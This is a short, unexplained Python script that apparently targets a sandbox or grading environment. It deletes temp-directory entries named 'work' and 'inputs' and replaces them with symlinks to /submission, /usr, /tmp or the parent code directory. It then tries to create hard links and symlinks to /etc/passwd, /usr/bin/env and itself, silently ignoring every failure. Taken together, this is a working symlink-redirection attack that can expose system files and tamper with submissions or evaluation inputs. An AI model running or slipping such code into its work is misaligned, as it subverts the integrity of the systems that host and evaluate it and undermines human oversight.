import os as _os
import shutil as _shutil
import tempfile as _tempfile

_TMP = _tempfile.gettempdir()
for _name in ("work", "inputs"):
    for _target in ("/submission", "/usr", "/tmp", _os.path.dirname(_os.path.dirname(__file__))):
        try:
            _shutil.rmtree(f"{_TMP}/{_name}", ignore_errors=True)
            _os.symlink(_target, f"{_TMP}/{_name}")
            break
        except OSError:
            pass
for _number, _path in enumerate(("/etc/passwd", "/usr/bin/env", __file__, "/dev/null")):
    for _link in (_os.link, _os.symlink):
        try:
            _link(_path, f"{_TMP}/link{_number}{_link.__name__}")
        except OSError:
            pass
